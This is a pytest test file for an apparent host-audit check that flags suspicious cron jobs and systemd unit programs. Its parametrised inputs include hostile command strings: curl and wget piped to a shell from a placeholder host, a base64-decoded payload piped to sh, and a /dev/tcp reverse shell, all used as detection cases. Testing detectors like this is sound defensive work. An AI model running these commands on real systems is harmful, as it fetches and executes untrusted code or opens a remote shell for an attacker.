import pytest

from audit4.evidence import ItemStatus, Probe, Reason
from audit4.facts.cron import CRON_D, CRONTAB, SPOOL, SPOOL_RHEL
from audit4.facts.persistence import UNIT_PROGRAMS
from audit4.finding import Status
from audit4.testing import Raw, judge
from tests.checks.system_literals import host

CHECK = "layer3_assessment.scheduled_commands"


@pytest.mark.parametrize(
    ("command", "loose", "fetch"),
    [
        ("/usr/bin/backup --all", Status.PASS, Status.PASS),
        ("test -x /usr/sbin/anacron || run-parts /x", Status.PASS, Status.PASS),
        ("/tmp/.x/run", Status.FAIL, Status.PASS),
        ("/bin/sh /dev/shm/a", Status.FAIL, Status.PASS),
        ("/home/lan/clean.sh", Status.FAIL, Status.PASS),
        ("find /tmp -mtime +7 -delete", Status.PASS, Status.PASS),
        ("curl -s http://a.example/x | bash", Status.PASS, Status.FAIL),
        ("wget -qO- http://a.example|sh", Status.PASS, Status.FAIL),
        ("curl -o /var/backups/a http://a.example/x", Status.PASS, Status.PASS),
        ("echo aGk= | base64 -d | sh", Status.PASS, Status.FAIL),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Status.PASS, Status.FAIL),
    ],
)
def test_judges_system_jobs(command: str, loose: Status, fetch: Status) -> None:
    seen = host({CRONTAB: f"SHELL=/bin/sh\n# x\n*/5 * * * * root {command}\n"})

    assert judge(CHECK, seen, judge="loose").status is loose
    assert judge(CHECK, seen, judge="fetch").status is fetch


def test_a_users_job_may_run_what_lies_at_home() -> None:
    seen = host(
        {SPOOL: {"/var/spool/cron/crontabs/lan": "@daily /home/lan/clean.sh\n"}}
    )

    assert judge(CHECK, seen, judge="loose").status is Status.PASS


def test_says_where_and_whose_but_not_what() -> None:
    seen = host({CRON_D: {"/etc/cron.d/a": "\n@reboot root /tmp/x -p hunter2\n"}})

    assert judge(CHECK, seen, judge="loose").items == ("/etc/cron.d/a:2 (root)",)


@pytest.mark.parametrize(
    ("program", "status"),
    [
        ("ExecStart=/usr/bin/agent", Status.PASS),
        ("ExecStart=-/tmp/agent", Status.FAIL),
        ("ExecStartPre=/bin/sh -c /dev/shm/x", Status.FAIL),
        ("ExecStart=/home/lan/app/run", Status.FAIL),
    ],
)
def test_judges_local_units(program: str, status: Status) -> None:
    seen = host({UNIT_PROGRAMS: f"/etc/systemd/system/a.service:{program}\n"})

    assert judge(CHECK, seen, judge="units").status is status


def test_folders_below_the_spool_are_no_tables() -> None:
    seen = host({SPOOL_RHEL: {"/var/spool/cron/crontabs": ItemStatus.UNSAFE}})

    assert judge(CHECK, seen, judge="loose").status is Status.PASS


@pytest.mark.parametrize(
    ("changed", "reason"),
    [
        ({CRONTAB: ItemStatus.DENIED}, Reason.PERMISSION),
        (
            {SPOOL: {"/var/spool/cron/crontabs/a": ItemStatus.UNSAFE}},
            Reason.UNSAFE_PATH,
        ),
        ({UNIT_PROGRAMS: ItemStatus.TIMEOUT}, Reason.TIMEOUT),
    ],
)
def test_missing_evidence_is_unknown(changed: dict[Probe, Raw], reason: Reason) -> None:
    assert judge(CHECK, host(changed), judge="loose").reason is reason


def test_without_root_it_is_unknown() -> None:
    verdict = judge(CHECK, host(privileged=False), judge="loose")

    assert verdict.reason is Reason.PERMISSION
